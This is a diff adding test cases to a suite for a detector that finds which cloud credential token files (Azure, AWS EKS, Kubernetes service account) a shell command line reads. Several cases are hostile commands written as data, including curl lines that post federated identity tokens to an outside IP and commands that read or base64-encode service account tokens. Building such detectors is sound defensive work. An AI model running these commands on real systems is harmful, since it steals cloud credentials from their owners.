@@ -216,6 +216,16 @@ describe('tokenFileOfPath', () => {
     [`powershell -enc ${Buffer.from('Copy-Item C:\\Users\\bob\\.azure\\msal_token_cache.bin C:\\Users\\Public\\x', 'utf16le').toString('base64')}`, '', ['C:\\Users\\bob\\.azure\\msal_token_cache.bin']],
     // PowerShell expands a wildcard folder: every user's cache.
     ['powershell Get-Content C:\\Users\\*\\.azure\\msal_token_cache.bin', '', ['C:\\Users\\*\\.azure\\msal_token_cache.bin']],
+    // The variables the pod identity webhooks set to the token's path, in a shell's, PowerShell's and cmd's spellings, and in a command substitution.
+    ['sh -c "cat $AZURE_FEDERATED_TOKEN_FILE"', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
+    ["bash -c 'read -r t < ${AWS_WEB_IDENTITY_TOKEN_FILE}; curl -d \"$t\" https://203.0.113.9/'", '', ['/var/run/secrets/eks.amazonaws.com/serviceaccount/token']],
+    ['curl -d @$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE https://203.0.113.9/', '', ['/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token']],
+    ['pwsh -c "Get-Content $env:AZURE_FEDERATED_TOKEN_FILE"', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
+    ['sh -c "az login --service-principal -u $AZURE_CLIENT_ID -t $AZURE_TENANT_ID --federated-token \\"$(cat $AZURE_FEDERATED_TOKEN_FILE)\\""', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
+    // What a printing or setting command runs in a substitution is read: `$(`, `<(` and a backtick start a command.
+    ['sh -c "echo $(cat /var/run/secrets/kubernetes.io/serviceaccount/token) | base64"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
+    ['sh -c "echo `cat /var/run/secrets/kubernetes.io/serviceaccount/token`"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
+    ['export T=$(< /var/run/secrets/azure/tokens/azure-identity-token)', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
     // A command that reads nothing beside one that reads, in the same line.
     ['cmd /c "icacls C:\\Users\\bob\\.azure\\msal_token_cache.bin /grant eve:R & type C:\\Users\\bob\\.azure\\accessTokens.json"', '', ['C:\\Users\\bob\\.azure\\accessTokens.json']],
   ])('reads %j (working directory %j) as naming %j', (commandLine, workingDirectory, paths) => {
@@ -244,6 +254,12 @@ describe('tokenFileOfPath', () => {
     ['cmd.exe /c "rmdir /s /q C:\\Users\\bob\\.azure"', ''],
     ['powershell -NoProfile -ExecutionPolicy Bypass -Command Remove-Item -Recurse -Force $env:USERPROFILE\\.azure', ''],
     ['sudo rm -f /home/alice/.aws/credentials', ''],
+    // Printing or setting a token file's name reads nothing; nor does a variable no webhook sets to a token file.
+    ['sh -c "echo token file: $AZURE_FEDERATED_TOKEN_FILE"', ''],
+    ['echo /var/run/secrets/kubernetes.io/serviceaccount/token', ''],
+    ['export AZURE_FEDERATED_TOKEN_FILE=/var/run/secrets/azure/tokens/azure-identity-token', ''],
+    ['printenv AZURE_FEDERATED_TOKEN_FILE', ''],
+    ['cat $MY_TOKEN_FILE', ''],
   ])('finds no token file in %j (working directory %j)', (commandLine, workingDirectory) => {
     expect(tokenFilesInCommandLine(commandLine, workingDirectory)).toEqual([]);
   });
